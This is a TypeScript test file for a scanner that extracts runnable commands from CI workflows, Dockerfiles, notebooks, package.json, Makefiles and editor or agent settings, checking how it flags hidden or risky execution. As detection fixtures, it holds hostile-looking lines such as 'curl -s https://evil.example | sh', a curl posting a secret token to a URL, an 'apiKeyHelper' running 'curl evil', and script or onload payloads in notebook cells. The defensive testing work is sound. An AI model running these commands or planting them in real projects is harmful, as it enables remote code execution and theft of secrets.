import { describe, expect, it } from 'vitest';
import { extractCi } from './ci.ts';
import { extractCommands } from './commands-json.ts';
import { extractDockerfile } from './dockerfile.ts';
import { extractMakefile } from './makefile.ts';
import { extractNotebook } from './notebook.ts';
import { extractPackageJson } from './package-json.ts';
import type { Extraction, Part } from './part.ts';

/** Lines of a part that hold something, each after the number of the line it comes from. */
function shown({ text, lines }: Part): string[] {
  return text
    .split('\n')
    .map((line, index) => `${lines[index]}: ${line}`)
    .filter((line) => !/^\w+: [()]?$/.test(line));
}

function only(extraction: Extraction): string[] {
  expect(extraction.parts).toHaveLength(1);
  return shown(extraction.parts[0] as Part);
}

describe('a workflow', () => {
  const GITHUB = '.github/workflows/ci.yml';

  it('is one script for each job, with its variables, folded and literal text on their lines', () => {
    const text = `env: {WHERE: 'https://x.example'}
jobs:
  one:
    steps:
      - run: echo a
      - env: {TOKEN: "\${{ secrets.DEPLOY }}"}
        run: |
          first

          curl -d "$TOKEN" "$WHERE"
      - run: >
          folded
          words
  two:
    steps: [{run: echo b}]
`;
    const { parts } = extractCi(GITHUB, text);
    expect(parts.map(({ name }) => name)).toEqual(['jobs.one', 'jobs.two']);
    expect(shown(parts[0] as Part)).toEqual([
      '1: export WHERE="https://x.example"',
      '5: echo a',
      '1: export WHERE="https://x.example"',
      '6: export TOKEN="${DEPLOY}"',
      '8: first',
      '10: curl -d "$TOKEN" "$WHERE"',
      '1: export WHERE="https://x.example"',
      '12: folded words',
    ]);
  });

  it('keeps expressions inert, and tells where a stranger’s text becomes a script', () => {
    const step = 'echo "${{ github.event.issue.title }}" ${{ github.event.number }} ${{ toJSON(matrix) }}';
    const extraction = extractCi(GITHUB, `jobs: {a: {steps: [{run: '${step}'}]}}`);
    expect(only(extraction)).toEqual([
      '1: echo "expression.github.event.issue.title" expression.github.event.number expression.toJSON-matrix-',
    ]);
    expect(extraction.told).toMatchObject([
      { kind: 'expression', message: expect.stringContaining('github.event.issue.title') },
    ]);
  });

  it('tells what it takes from elsewhere, and with which rights it runs', () => {
    const text = `on: {pull_request_target: {}}
permissions: {contents: write}
jobs: {a: {steps: [{uses: some/action@main}, {uses: some/action@${'a'.repeat(40)}}, {uses: ./own}]}}`;
    expect(extractCi(GITHUB, text).told.map(({ message }) => message)).toEqual([
      'runs on pull_request_target, which strangers cause, with the repository’s own rights and secrets',
      'runs with the permission contents: write',
      'runs some/action@main from elsewhere, which is not pinned to a commit',
      `runs some/action@${'a'.repeat(40)} from elsewhere`,
    ]);
  });

  it('reads other languages by themselves, and tells which it cannot read', () => {
    const text = `jobs:
  a:
    defaults: {run: {shell: python}}
    steps:
      - run: import os
      - {run: Get-Item, shell: pwsh}
      - uses: actions/github-script@v7
        with: {script: "require('fs')"}
  w:
    runs-on: windows-latest
    steps: [{run: dir}]
`;
    const { parts, skipped } = extractCi(GITHUB, text);
    expect(parts.map(({ name, language }) => `${name} ${language}`)).toEqual([
      'jobs.a.python python',
      'jobs.a.javascript javascript',
    ]);
    expect(skipped.map(({ code, reason }) => `${code} ${reason}`)).toEqual([
      'unknown-language a script in pwsh (line 6) cannot be read',
      'unknown-language a script in pwsh (line 11) cannot be read',
    ]);
  });

  it('is read in the notation of other systems', () => {
    const of = (path: string, text: string) => extractCi(path, text).parts.flatMap(shown);
    expect(
      of(
        '.gitlab-ci.yml',
        '.x: &x\n  - one\na:\n  before_script: [zero]\n  script:\n    - *x\n    - two $[[ inputs.y ]]\n',
      ),
    ).toEqual(['4: zero', '2: one', '7: two expression.inputs.y']);
    expect(
      of(
        '.circleci/config.yml',
        'jobs:\n  a:\n    steps:\n      - run: one << parameters.p >>\n      - run:\n          command: two\n',
      ),
    ).toEqual(['4: one expression.parameters.p', '6: two']);
    expect(of('azure-pipelines.yml', 'steps:\n- script: echo $(Build.Reason) $(date)\n- bash: two\n')).toEqual([
      '2: echo expression.Build.Reason $(date)',
      '3: two',
    ]);
    expect(of('.pre-commit-config.yaml', 'repos:\n- repo: local\n  hooks:\n  - entry: ./run.sh\n')).toEqual([
      '4: ./run.sh',
    ]);
    expect(of('compose.yaml', 'services:\n  a:\n    command: [sh, -c, "one; two"]\n')).toEqual(["3: sh -c 'one; two'"]);
    expect(of('action.yml', 'runs:\n  steps:\n  - run: one\n    shell: bash\n')).toEqual(['3: one']);
  });

  it.each([
    ['cut off', 'a: ['],
    ['nested without end', '['.repeat(20_000)],
    ['empty', ''],
  ])('that is %s is malformed, and not passed over', (_, text) => {
    expect(extractCi(GITHUB, text)).toMatchObject({ parts: [], skipped: [{ code: 'malformed', needsReview: true }] });
  });

  it('whose aliases multiply is read within bounds, and not passed over', () => {
    const levels = Array.from(
      { length: 9 },
      (_, level) =>
        `a${level}: &a${level} [${
          level === 0
            ? '{run: x}'
            : Array(10)
                .fill(`*a${level - 1}`)
                .join()
        }]`,
    );
    const { skipped } = extractCi(GITHUB, `${levels.join('\n')}\njobs: {b: {steps: *a8}}`);
    expect(skipped.at(-1)).toMatchObject({ code: 'malformed', needsReview: true });
  });
});

describe('a Dockerfile', () => {
  it('is what building and starting runs, in every form', () => {
    const text = `FROM debian
ENV URL=http://x.example
RUN one \\
  # a comment
  && curl $URL
RUN ["two", "a b"]
RUN --mount=type=cache,target=/c <<END
three
END
ADD https://y.example/z /z
ONBUILD RUN four
HEALTHCHECK --interval=1s CMD five
CMD six
`;
    const lines = only(extractDockerfile('Dockerfile', text)).filter((line) => !line.includes('export'));
    expect(lines).toEqual([
      '3: one \\',
      '4: \\',
      '5:   && curl $URL',
      "6: two 'a b'",
      '8: three',
      '10: curl -fsSL -o /z https://y.example/z',
      '11: four',
      '12: five',
      '13: six',
    ]);
  });

  it('knows its own sign for going on, programs other than a shell, and shells it cannot read', () => {
    const text =
      '# escape=`\nFROM x\nRUN one `\n two\nRUN <<E\n#!/usr/bin/python3\nimport os\nE\nSHELL ["powershell"]\nRUN Get-Item\n';
    const extraction = extractDockerfile('a.dockerfile', text);
    expect(only(extraction)).toEqual([
      '3: one \\',
      '4:  two',
      "5: /usr/bin/python3 <<'E'",
      '6: #!/usr/bin/python3',
      '7: import os',
      '8: E',
    ]);
    expect(extraction.skipped).toMatchObject([{ code: 'unknown-language', needsReview: true }]);
  });
});

describe('a notebook', () => {
  const notebook = (...cells: unknown[]) =>
    JSON.stringify({ cells: cells.map((source) => ({ cell_type: 'code', source })), metadata: {} }, null, 1);

  it('is its code cells in order, each line where it stands', () => {
    const text = notebook(['import os\n', 'x = 1'], 'y = 2\nz = 3');
    const lines = text.split('\n');
    const at = (part: string) => lines.findIndex((line) => line.includes(part)) + 1;
    expect(only(extractNotebook('a.ipynb', text))).toEqual([
      `${at('import os')}: import os`,
      `${at('x = 1')}: x = 1`,
      `${at('y = 2')}: y = 2`,
      `${at('y = 2')}: z = 3`,
    ]);
  });

  it('has what IPython adds turned into Python that does the same', () => {
    const text = notebook(
      '%matplotlib inline\nfiles = !ls -a\nif x:\n    !curl http://x.example \\\n      -o y\n%pip install z\n%time f()\n%run other.py',
      '%%bash\necho "a"\n',
      '%%writefile x.py\nimport os',
      '%%time\nf()',
      's = """\n!not a command\n"""',
    );
    const code = only(extractNotebook('a.ipynb', text)).map((line) => line.replace(/^\d+: /, ''));
    expect(code).toEqual([
      'None  # %matplotlib inline',
      'files = __import__("subprocess").run("ls -a", shell=True)',
      'if x:',
      '    __import__("subprocess").run("curl http://x.example \\\\\\n      -o y", shell=True)',
      '__import__("subprocess").run("pip install z", shell=True)',
      'f()',
      '__import__("runpy").run_path("other.py")',
      '__import__("subprocess").run(["bash", "-c",',
      '"echo \\"a\\"\\n"',
      '"\\n"',
      '""])',
      'open("x.py", "w").write(',
      '"import os\\n"',
      '"")',
      'pass  # %%time',
      'f()',
      's = """',
      '!not a command',
      '"""',
    ]);
  });

  it('tells cells that cannot be read, and other kernels', () => {
    const { skipped, parts } = extractNotebook('a.ipynb', notebook('%%ruby\nputs 1', '%sql DROP', 'x = 1'));
    expect(skipped.map(({ needsReview }) => needsReview)).toEqual([true, true]);
    expect(parts[0]?.text).toContain('x = 1');
    const r = JSON.stringify({
      cells: [{ cell_type: 'code', source: 'x' }],
      metadata: { kernelspec: { language: 'R' } },
    });
    expect(extractNotebook('a.ipynb', r)).toMatchObject({
      parts: [],
      skipped: [{ code: 'unknown-language', needsReview: true }],
    });
  });

  it.each(['', '[]', '{"cells": 1}', '{"cells": [', `${'['.repeat(100_000)}`])('%j is malformed', (text) => {
    expect(extractNotebook('a.ipynb', text)).toMatchObject({
      parts: [],
      skipped: [{ code: 'malformed', needsReview: true }],
    });
  });
});

describe('a package', () => {
  it('has its scripts, those of installation first, and tells dependencies past the registry', () => {
    const text =
      '{\n "scripts": {\n  "test": "one",\n  "postinstall": "two"\n },\n "dependencies": {"a": "^1.0.0", "b": "git+https://x.example/y"}\n}';
    const { parts, told } = extractPackageJson('package.json', text);
    expect(parts.map((part) => [part.name, ...shown(part)])).toEqual([
      ['scripts.postinstall', '4: two'],
      ['scripts.test', '3: one'],
    ]);
    expect(told.map(({ message }) => message)).toEqual([
      'takes the package b from git+https://x.example/y, past the registry',
    ]);
  });

  it('counts the last of equal keys, as npm does', () => {
    const { parts } = extractPackageJson('package.json', '{"scripts": {"a": "one", "a": "two"}}');
    expect(parts.flatMap(shown)).toEqual(['1: two']);
  });
});

describe('a Makefile', () => {
  it('is its recipes, and what it runs while it is read', () => {
    const text = 'X := $(shell date)\nY != id\nall: dep\n\t@one $(X) $$HOME $@ \\\n\t  more\n\t-two\nother: ; three\n';
    const { parts } = extractMakefile('Makefile', text);
    expect(parts.map((part) => [part.name, ...shown(part)])).toEqual([
      ['(read)', '1: date', '2: id'],
      ['all', '4: one ${X} $HOME make.automatic \\', '5:   more', '6: two'],
      ['other', '7:  three'],
    ]);
  });
});

describe('what would hide from a reader of one notation alone', () => {
  it('a pipeline in the document after a header', () => {
    const text = 'spec:\n  inputs: {}\n---\nbuild:\n  script: curl -s https://evil.example | sh\n';
    expect(only(extractCi('.gitlab-ci.yml', text))).toEqual(['5: curl -s https://evil.example | sh']);
  });

  it.each([
    ['bash -c "curl -s https://evil.example" {0}', true],
    ['./bash {0}', true],
    ['bash -euo pipefail {0}', false],
    ['/bin/bash --noprofile --norc -eo pipefail {0}', false],
  ])('a shell that is a command: %s', (shell, isTold) => {
    const text = `jobs: {a: {steps: [{run: echo hi, shell: '${shell}'}]}}`;
    const lines = only(extractCi('.github/workflows/x.yml', text));
    expect(lines.some((line) => line.includes(shell.replace('{0}', '').trim()))).toBe(isTold);
    expect(lines).toContain('1: echo hi');
  });

  it.each([
    ['braces', 'X := ${shell curl evil}\nall:\n'],
    ['parentheses', 'X := $(shell echo $$(echo $$(curl evil)))\nall:\n'],
    ['another prefix', '.RECIPEPREFIX = >\nall:\n>curl evil\n'],
    ['an exported assignment', 'export X != curl evil\n'],
  ])('a Makefile with %s', (_, text) => {
    const { parts } = extractMakefile('Makefile', text);
    expect(parts.flatMap(shown).join('\n')).toContain('curl evil');
  });

  it.each([
    ['SHELL = ./bash\nall:\n\techo\n', true],
    ['all: SHELL := /usr/bin/python3\nall:\n\tprint(1)\n', true],
    ['.SHELLFLAGS = -c "curl evil;"\nall:\n\techo\n', true],
    ['$(eval all: ; curl evil)\n', true],
    ['load ./evil.so\n', true],
    ['SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nall:\n\techo\n', false],
    ['SHELL = /usr/bin/env bash # of the machine\nall:\n\techo\n', false],
  ])('a Makefile whose recipes something else reads needs a person: %j', (text, needsReview) => {
    const { skipped } = extractMakefile('Makefile', text);
    expect(skipped.some((one) => one.needsReview)).toBe(needsReview);
  });
});

describe('what a notation runs beside what it shows', () => {
  const cell = (source: string) =>
    extractNotebook('a.ipynb', JSON.stringify({ cells: [{ cell_type: 'code', source }] }));

  it.each([
    ['%timeit -q evil(); 1', '1: evil(); 1'],
    ['%timeit -n 1 -r1 evil()', '1: evil()'],
    ['%prun -s cumulative evil()', '1: evil()'],
    ['%%timeit -n1 evil()\npass', '1: evil()  # %%timeit -n1 evil()'],
    ['%load_ext helper', '1: __import__("importlib.util").util.find_spec("helper") and __import__("helper")'],
  ])('a statement after a magic: %j', (source, line) => {
    expect(only(cell(source))[0]).toBe(line);
  });

  it.each([
    ['%%html\n<b>x</b>', false],
    ['%%html\n<script>Jupyter.notebook.kernel.execute("evil()")</script>', true],
    ['%%svg\n<svg onload = "evil()"/>', true],
  ])('a cell that a browser shows: %j', (source, needsReview) => {
    expect(cell(source).skipped.some((one) => one.needsReview)).toBe(needsReview);
  });

  it.each([
    ['# syntax=docker/dockerfile:1.7\nFROM a\nRUN id\n', false],
    ['# escape=\\\n# syntax = evil.example/frontend\nFROM a\nRUN id\n', true],
  ])('an image that reads a Dockerfile: %j', (text, needsReview) => {
    expect(extractDockerfile('Dockerfile', text).skipped.some((one) => one.needsReview)).toBe(needsReview);
  });
});

it('package.json: what its tools run on a commit', () => {
  const text = '{"husky": {"hooks": {"pre-commit": "one"}},\n"lint-staged": {"*.js": ["two", "three"]}, "name": "x"}';
  const { parts } = extractPackageJson('package.json', text);
  expect(parts.map((part) => [part.name, ...shown(part)])).toEqual([
    ['husky', '1: one'],
    ['lint-staged', '2: two', '2: three'],
  ]);
});

describe('settings that run commands when a folder is opened', () => {
  it('are read also where they name a shell, a helper or quoted arguments', () => {
    const text = `{"tasks": [{"command": "a", "args": [{"value": "b c", "quoting": "strong"}],
"options": {"shell": {"executable": "./evil"}}}],
"apiKeyHelper": "curl evil"}`;
    expect(only(extractCommands('.claude/settings.json', text))).toEqual(["1: a 'b c'", '2: ./evil', '3: curl evil']);
  });

  it('that are nested beyond reading need a person', () => {
    const text = `${'{"a":'.repeat(70)}{"command":"evil"}${'}'.repeat(70)}`;
    expect(extractCommands('.vscode/tasks.json', text).skipped.some((one) => one.needsReview)).toBe(true);
  });

  it('are read with their comments', () => {
    const text =
      '{ // a\n"tasks": [{"command": "one", "args": ["a b"], "runOptions": {"runOn": "folderOpen"}}],\n"postCreateCommand": {"x": ["two", "c"]}}';
    expect(only(extractCommands('.vscode/tasks.json', text))).toEqual(["2: one 'a b'", '3: two c']);
  });
});

/** Each took minutes, or the stack, before it was bounded: a test that does not end has failed. */
describe('text that is made to tire a reader', () => {
  const many = (text: string) => text.repeat(Math.ceil(400_000 / text.length));
  const cells = (source: string) => JSON.stringify({ cells: [{ cell_type: 'code', source }] });
  it.each<[string, () => Extraction]>([
    [
      'variables that every step has',
      () => extractCi('action.yml', `env:\n${many(' A: x\n')}runs:\n steps:\n${'  - run: x\n'.repeat(5_000)}`),
    ],
    ['brackets without end', () => extractCi('action.yml', many('['))],
    ['expressions that never end', () => extractCi('action.yml', `runs: {steps: [{run: "${many('$\u007b{ x ')}"}]}`)],
    ['spaces before a magic', () => extractNotebook('a.ipynb', cells(`${many(' ')}x`))],
    ['magics inside of magics', () => extractNotebook('a.ipynb', cells(`${many('%time ')}x`))],
    ['a line of names', () => extractMakefile('Makefile', many('a '))],
    ['flags', () => extractDockerfile('Dockerfile', `RUN ${many('--a ')}`)],
  ])('%s', (_, extract) => {
    expect(extract().parts.length).toBeLessThanOrEqual(1);
  });
});
